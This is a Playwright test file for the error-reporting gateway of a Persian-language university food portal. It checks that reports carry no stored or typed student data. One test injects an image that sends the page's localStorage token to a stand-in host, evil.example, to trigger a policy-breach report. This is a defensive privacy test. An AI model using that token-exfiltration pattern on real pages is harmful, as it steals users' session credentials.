import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import type { FastifyInstance } from 'fastify'
import { createGateway } from '../../gateway/createGateway.ts'
import { createPortalSource } from '../../gateway/portalSource.ts'
import { openReports } from '../../gateway/reports/openReports.ts'
import type { ErrorReport } from '../../schemas/errorReports.ts'
import { buildApp } from '../../tools/buildApp.ts'
import { openPanel } from './support/panel.ts'
import { CAMPUS, DEVTOOLS, OWN_PORTAL, PASSWORD, PHONE, PORTS, ROOT } from './support/stage.ts'
import { enter, expect, resetCampus, test } from './support/student.ts'

test.use({ viewport: PHONE })

const home = mkdtempSync(join(tmpdir(), 'dargah-reports-'))
const file = join(home, 'reports.jsonl')
let gateway: FastifyInstance
/** Bodies as the pages sent them, and how the gateway answered. */
let sent: string[]
let answered: number[]

test.beforeAll(async () => {
  const source = createPortalSource({ roots: [ROOT], addresses: { aftab: [CAMPUS] }, quality: 1 })
  source.compile()
  const app = (await buildApp({ root: ROOT, devtools: false })).folder
  const reports = await openReports({ to: { file }, megabytes: 1, perMinute: 1000 })
  gateway = await createGateway({ source, app, assets: [], devtools: false, log: false, reports })
  await gateway.listen({ port: PORTS.ownPortal, host: '127.0.0.1' })
})
test.afterAll(async () => {
  await gateway.close()
  rmSync(home, { recursive: true })
})
test.beforeEach(async ({ page, allowed }) => {
  await resetCampus()
  sent = []
  answered = []
  allowed.push(/./)
  page.on('response', (response) => {
    if (!response.url().endsWith('/error-reports')) return
    sent.push(response.request().postData() ?? '')
    answered.push(response.status())
  })
})

const reports = () => sent.map((body) => JSON.parse(body) as ErrorReport)
const kinds = () => reports().map(({ kind }) => kind)
const written = () => readFileSync(file, 'utf8')

/** Everything personal of the page: what it stores, what is typed, and whose it is. */
async function secretsOf(page: Page): Promise<readonly string[]> {
  const stored = await page.evaluate(() => Object.values({ ...localStorage, ...sessionStorage }).join('\n'))
  const words = stored.match(/[\p{L}\p{N}_.-]{9,}/gu) ?? []
  return [...new Set([...words, 'سارا', 'sara', PASSWORD, 'sentinel'])].filter((word) => !PUBLIC.has(word))
}
/** Words of what a page stores that are names of the portal. */
const PUBLIC = new Set(['university', 'ROLE_STUDENT'])
const leaks = (text: string, secrets: readonly string[]) => secrets.filter((secret) => text.toLowerCase().includes(secret.toLowerCase()))

test('nothing is fetched where it is off, and where it is on the reporter comes with the first error', async ({ page }) => {
  const fetched: string[] = []
  page.on('request', (request) => fetched.push(request.url()))
  const chunks = (name: string) => fetched.filter((url) => url.includes(`/chunks/${name}-`)).length
  await page.goto(`${OWN_PORTAL}/login`)
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  expect([chunks('watchErrors'), chunks('createReporter')]).toEqual([1, 0])
  fetched.length = 0
  await page.goto('/login')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  expect([chunks('watchErrors'), chunks('createReporter')]).toEqual([0, 0])
})

test('a page that breaks outside of its blocks reports it with the way there, and nothing of its student', async ({ page, request }) => {
  await enter(page, 'sara', 'aftab', `${OWN_PORTAL}/`)
  await expect(page.locator('main').getByRole('link').first()).toBeVisible()

  // An answer of another shape, full of secrets.
  await page.route(/\/rest\/(reservations\/)?selfs(\?|$)/, async (route) => {
    if (route.request().method() === 'OPTIONS') return route.continue()
    await route.fulfill({ response: await route.fetch(), json: [{ id: 'sentinel', 'سارا-sentinel': 1 }] })
  })
  await page.goto(`${OWN_PORTAL}/food/selfs?sentinel=sara`)
  await expect.poll(kinds).toContain('answer')

  const secrets = await secretsOf(page)
  // An uncaught error and a rejection whose stacks name the page's own script, and a breach of the policy.
  await page.evaluate(() => {
    const script = document.querySelector<HTMLScriptElement>('script[type=module]')?.src ?? ''
    const errorAt = (line: number) => {
      const error = Object.assign(new TypeError(`sentinel ${JSON.stringify({ ...localStorage })}`), { name: 'sentinelError' })
      error.stack = `sentinel\n    at sentinel (${script}:${line}:1)\n    at ${location.href}:1:1`
      return error
    }
    queueMicrotask(() => {
      throw errorAt(1)
    })
    void Promise.reject(errorAt(2))
    const image = document.createElement('img')
    image.src = `https://evil.example/${localStorage.getItem('token') ?? ''}?sentinel`
    document.body.append(image)
  })
  await expect.poll(() => kinds().sort()).toEqual(expect.arrayContaining(['answer', 'error', 'policy', 'rejection']))

  expect(secrets.length).toBeGreaterThan(10)
  expect(leaks(sent.join('\n'), secrets)).toEqual([])
  expect(leaks(written(), secrets)).toEqual([])
  // Control: they would be found in what the page stores.
  const stored = await page.evaluate(() => JSON.stringify({ ...localStorage }))
  expect(leaks(`${stored} sentinel`, secrets).length).toBeGreaterThan(10)

  expect(answered.filter((status) => status !== 204)).toEqual([])
  const first = reports().find(({ kind }) => kind === 'answer')
  expect(first).toMatchObject({ university: 'aftab', screen: 'food/selfs', signedIn: true, language: 'fa', device: 'mobile' })
  expect(first?.answer?.call).toMatch(/^food\/selfs\./)
  expect(first?.trail).toContainEqual({ screen: 'food/selfs' })
  const index = await request.get(`${OWN_PORTAL}/portal/index/aftab.json`)
  expect(index.headers()['etag']).toBe(`"${first?.publication}"`)
})

test('a report is followed in the developer tools, which say where its way ends', async ({ page }) => {
  await page.goto(`${DEVTOOLS}/login`)
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  const panel = await openPanel(page, /^سناریو$/)
  const group = panel.getByRole('group', { name: 'گزارش خطا' })
  const report = (trail: ErrorReport['trail']) =>
    JSON.stringify({
      version: 1,
      kind: 'block',
      name: 'TypeError',
      message: 'is not a function',
      stack: ['chunks/index-a.js:1:2'],
      university: 'aftab',
      screen: 'food/dailysale',
      signedIn: true,
      language: 'fa',
      device: 'mobile',
      build: 'index-a.js',
      publication: '',
      trail,
    } satisfies ErrorReport)
  const follow = async (text: string) => {
    await group.getByLabel('گزارش، یک خط JSON').fill(text)
    await group.getByRole('button', { name: 'پیدا کردن راه' }).click()
  }
  await follow('{"no": "report"}')
  await expect(group.locator('output')).toContainText('این گزارش خطا نیست.')
  await expect(group.getByRole('button', { name: 'بازپخش با پاسخ‌های نمونه' })).toBeDisabled()

  await follow(report([{ screen: 'food/dailysale' }, { call: 'food/sales.today', status: 200 }, { took: ['nowhere GO'] }]))
  await expect(group.locator('output')).toContainText('گام‌های طی‌شده: 1 / 2')
  await expect(group.locator('output')).toContainText('با پاسخ‌های نمونه ادامه نیافت پیش از: nowhere GO')

  await follow(report([{ screen: 'food/dailysale' }, { call: 'food/sales.today', status: 503 }, { call: 'food/sales.mine', status: 200 }]))
  await expect(group.locator('output')).toContainText('گام‌های طی‌شده: 2 / 2')
  await group.getByRole('button', { name: 'بازپخش با پاسخ‌های نمونه' }).click()
  await expect(page.getByText('report: block TypeError on food/dailysale at aftab')).toBeVisible()
})
